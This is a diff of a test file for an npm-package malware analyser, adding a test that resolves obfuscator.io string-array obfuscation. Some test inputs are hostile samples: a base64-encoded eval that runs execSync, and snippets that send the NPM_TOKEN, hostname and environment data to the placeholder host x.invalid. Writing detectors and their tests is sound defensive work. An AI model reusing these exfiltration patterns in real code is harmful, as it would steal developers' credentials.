@@ -3,7 +3,9 @@ import assert from 'node:assert/strict';
 import { analyzeSource, analyzeJavaScript } from '../../../src/analysis/javascript/index.js';
 import type { JsEvent } from '../../../src/analysis/javascript/facts.js';
 import { SRC } from '../../../src/analysis/javascript/sources.js';
-import { npmContext, treeFromFiles } from './helpers.js';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { FIXTURES, npmContext, treeFromFiles } from './helpers.js';
 
 const OPTS = { maxParseBytes: 2 * 1024 * 1024, maxDecodedBytes: 1 << 20, maxDecodeDepth: 4, deadline: Number.POSITIVE_INFINITY, force: true };
 const events = (code: string): JsEvent[] => analyzeSource(code, 'x.js', OPTS).facts.events;
@@ -37,6 +39,15 @@ describe('JavaScript facts and deobfuscation', () => {
     const inner = events("eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp'))");
     assert.ok(inner.some((x) => x.sink === 'eval' && x.decodedDepth > 0));
     assert.ok(inner.some((x) => x.sink === 'exec' && x.name === 'child_process.execSync'), 'decoded payload analysed');
+  });
+  it('resolves obfuscator.io string-array rotation and decoder aliases', () => {
+    const code = readFileSync(join(FIXTURES, 'obfuscator-io', 'package', 'index.js'), 'utf8');
+    const r = analyzeSource(code, 'index.js', OPTS);
+    assert.equal(r.facts.obfuscation.stringArray, true);
+    const e = r.facts.events.find((x) => x.sink === 'network');
+    assert.equal(e?.name, 'fetch');
+    assert.equal(e?.text, 'https://x.invalid/collect');
+    assert.ok((e?.taint ?? 0) & SRC.envAll);
   });
   it('tracks credentials and host data through variables, objects and callbacks', () => {
     const e = sink("const os=require('os');const h=os.hostname();const body={h, t: process.env.NPM_TOKEN};require('https').request({hostname:'x.invalid'}).end(JSON.stringify(body));", 'network');
